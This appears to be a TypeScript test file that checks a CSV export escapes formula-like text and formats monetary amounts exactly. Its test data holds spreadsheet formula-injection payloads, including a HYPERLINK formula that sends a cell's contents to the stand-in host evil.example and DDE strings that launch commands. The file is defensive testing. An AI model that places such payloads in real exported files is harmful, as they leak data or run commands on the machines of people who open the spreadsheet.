import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fromDecimal, micros } from '../../../../src/money/money.js';
import { amountCell, csvRow, textCell } from '../../../../src/server/http/csv/csv-cells.js';
import { parseCsv } from './parse-csv.js';

/** Texts that begin like a formula in Excel, LibreOffice, Numbers, or Google Sheets. */
const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"Refund")',
  "=cmd|'/C calc'!A0",
  '+1+cmd|calc!A0',
  '-2+3',
  '-5',
  '@SUM(1+9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

const texts = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc
    .array(
      fc.constantFrom('"', ',', '\r', '\n', '\r\n', ' ', 'a', "'", '=', '-', ';', '\u202e', '<b>'),
      {
        maxLength: 8,
      },
    )
    .map((parts) => parts.join('')),
);

describe('a CSV row', () => {
  it('has the texts that were written, apart from the apostrophe of formulas', () => {
    const rows = fc.array(fc.array(texts, { minLength: 1, maxLength: 4 }), { maxLength: 6 });
    fc.assert(
      fc.property(rows, (drawn) => {
        const file = drawn.map((cells) => csvRow(cells.map(textCell))).join('');
        const expected = drawn.map((cells) =>
          cells.map((text) => (isFormula(text) ? `'${text}` : text)),
        );
        expect(parseCsv(file)).toEqual(expected);
      }),
    );
  });

  it.each(formulas)('makes %j a text', (formula) => {
    const [[cell = ''] = []] = parseCsv(csvRow([textCell(formula)]));
    expect(cell).toBe(`'${formula}`);
    expect(isFormula(formula)).toBe(true);
  });

  it('leaves every other text as it is', () => {
    for (const text of ['', 'a=1', '1-2', 'user_7', "it's", ' =1', 'a@b.example', '<b>x</b>']) {
      expect(textCell(text)).toBe(text);
    }
    expect(textCell()).toBe('');
  });

  it('keeps an amount a plain and exact number, also below zero', () => {
    const amounts = fc.integer({ min: Number.MIN_SAFE_INTEGER, max: Number.MAX_SAFE_INTEGER });
    fc.assert(
      fc.property(amounts, fc.constantFrom(0, 2, 3), (count, digits) => {
        const cell = amountCell(micros(count), digits);
        expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
        expect(fromDecimal(cell)).toBe(micros(count));
        expect((cell.split('.')[1] ?? '').length).toBeGreaterThanOrEqual(digits);
      }),
    );
    expect(amountCell(micros(-125), 2)).toBe('-0.000125');
    expect(amountCell(micros(-10_500_000), 2)).toBe('-10.50');
    expect(amountCell(micros(5_000_000), 0)).toBe('5');
    expect(amountCell(micros(0), 3)).toBe('0.000');
  });
});

/** Whether a spreadsheet may run the text. */
function isFormula(text: string): boolean {
  return /^[=+@\t\r\n＝＋－＠-]/.test(text);
}
